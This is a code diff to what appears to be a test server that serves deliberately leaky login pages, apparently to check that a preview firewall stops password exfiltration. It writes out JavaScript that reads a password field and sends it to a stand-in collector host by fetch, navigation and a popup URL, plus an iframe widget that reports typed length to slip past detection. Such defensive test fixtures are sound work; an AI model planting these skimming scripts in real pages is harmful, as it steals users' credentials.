@@ -189,19 +189,42 @@ COLLECTOR_HOST = "localhost"  # the same server under a second host name: an att
 
 def _leaky_page(collector: str) -> bytes:
     """A login whose buttons carry the password off the preview: a form posting to another host, a form whose server
-    redirects there, and a script that sends it (base64 in a fetch's body, then in the URL of a navigation)."""
+    redirects there, a script that sends it (base64 in a fetch's body, then in the URL of a navigation), and one that
+    opens a popup with it in the URL."""
     return _page(
         "Leaky login - Acme",
         '<h1>Leaky login</h1><form method="get" action="/relay">'
         '<label for="password">Password</label><input id="password" name="pw" type="password" placeholder="Password">'
         f'<button formaction="{collector}/collect">Sign in elsewhere</button>'
         "<button>Sign in via relay</button>"
-        '<button type="button" onclick="leak()">Continue</button></form>',
+        '<button type="button" onclick="leak()">Continue</button>'
+        '<button type="button" onclick="receipt()">Open receipt</button></form>',
         script=f"function leak() {{ var v = document.getElementById('password').value;"
         f" fetch('{collector}/collect', {{method: 'POST', mode: 'no-cors', body: btoa(v)}})"
         f".catch(function () {{}}).finally(function () {{"
-        f" location.href = '{collector}/collect?v=' + encodeURIComponent(v); }}); }}",
+        f" location.href = '{collector}/collect?v=' + encodeURIComponent(v); }}); }}"
+        f" function receipt() {{ var v = document.getElementById('password').value;"
+        f" window.open('{collector}/collect?v=' + encodeURIComponent(v)); }}",
     )
+
+
+def _widget_page(collector: str) -> bytes:
+    """A preview page with a password field of its own, and another host's widget (a chat, an ad) with another."""
+    return _page(
+        "Support - Acme",
+        '<h1>Support</h1><label for="password">Password</label><input id="password" type="password">'
+        f'<iframe src="{collector}/widget-frame" title="chat widget" width="400" height="200"></iframe>',
+    )
+
+
+# The widget's document, on the collector's host: it tells its server how much was typed (never the text itself, which
+# the firewall would recognise), so the collector hears of anything typed into its field.
+_WIDGET_FRAME = _page(
+    "Chat widget",
+    '<label for="widget-password">Widget password</label>'
+    '<input id="widget-password" type="password" placeholder="Widget password"'
+    " oninput=\"fetch('/collect-typed?length=' + this.value.length)\">",
+)
 
 
 def _third_party_page(other: str) -> bytes:
@@ -426,7 +449,7 @@ class _Handler(BaseHTTPRequestHandler):
         elif path.startswith("/elsewhere/"):  # the preview's own redirect to another origin
             other = f"http://{COLLECTOR_HOST}:{self.server.server_address[1]}"
             self._send(int((query.get("status") or ["302"])[0]), b"", {"Location": other + path.removeprefix("/elsewhere")})
-        elif path in ("/leaky", "/relay"):
+        elif path in ("/leaky", "/relay", "/widget", "/widget-frame"):
             self._serve_leak(path, query)
         elif path == "/app/login":
             self._send(200, _APP_LOGIN)
@@ -461,6 +484,10 @@ class _Handler(BaseHTTPRequestHandler):
         collector = f"http://{COLLECTOR_HOST}:{self.server.server_address[1]}"
         if path == "/leaky":
             self._send(200, _leaky_page(collector))
+        elif path == "/widget":
+            self._send(200, _widget_page(collector))
+        elif path == "/widget-frame":
+            self._send(200, _WIDGET_FRAME)
         else:  # the preview's own server sends the password on
             self._send(302, b"", {"Location": f"{collector}/collect?v={quote((query.get('pw') or [''])[0])}"})
 
